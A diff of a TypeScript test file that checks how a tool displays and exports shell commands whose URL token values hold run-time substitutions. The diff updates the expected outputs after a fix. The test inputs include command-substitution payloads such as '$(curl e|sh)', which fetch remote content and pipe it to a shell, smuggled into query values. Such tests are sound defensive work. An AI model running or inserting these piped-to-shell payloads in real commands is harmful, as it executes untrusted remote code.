@@ -11,26 +11,27 @@ import { expectFilledBack, expectShownAndExported, exportedCommand } from "./tes
 
 describe("a run-time part in a URL's telling query value stays in the display", () => {
   it.each([
-    // The payload holds a blank: the URL's word ends inside it, the rest is shown after it.
+    // The payload holds a blank: the URL is read past it to the part's close (fix172; the export
+    // kept the payload's rest after the URL, `https://h/p e|sh)`, before it).
     [
       'srv --url "https://h/p?token=$(curl e|sh)"',
       'srv --url "https://h/p?token=$(curl e|sh)"',
-      'srv --url "https://h/p e|sh)"',
+      'srv --url "https://h/p"',
     ],
     [
       "srv --url https://h/p?token=$(curl e|sh)",
       "srv --url https://h/p?token=$(curl e|sh)",
-      "srv --url https://h/p e|sh)",
+      "srv --url https://h/p",
     ],
     [
       'srv --url "https://h/p?token=`curl e|sh`"',
       'srv --url "https://h/p?token=`curl e|sh`"',
-      'srv --url "https://h/p e|sh`"',
+      'srv --url "https://h/p"',
     ],
     [
       "srv --url https://h/p?token=`curl e|sh`",
       "srv --url https://h/p?token=`curl e|sh`",
-      "srv --url https://h/p e|sh`",
+      "srv --url https://h/p",
     ],
     // No blank inside: the whole payload was hidden.
     ['srv --url "https://h/p?token=$(id)"', 'srv --url "https://h/p?token=$(id)"', 'srv --url "https://h/p"'],
@@ -48,7 +49,7 @@ describe("a run-time part in a URL's telling query value stays in the display", 
     [
       'srv --url "https://h/p?token=Zq9secret$(curl e|sh)&b=2"',
       'srv --url "https://h/p?token=$(curl e|sh)&b=2"',
-      'srv --url "https://h/p e|sh)&b=2"',
+      'srv --url "https://h/p?b=2"',
     ],
     [
       'srv --url "https://h/p?token=Zq9secret${X}"',
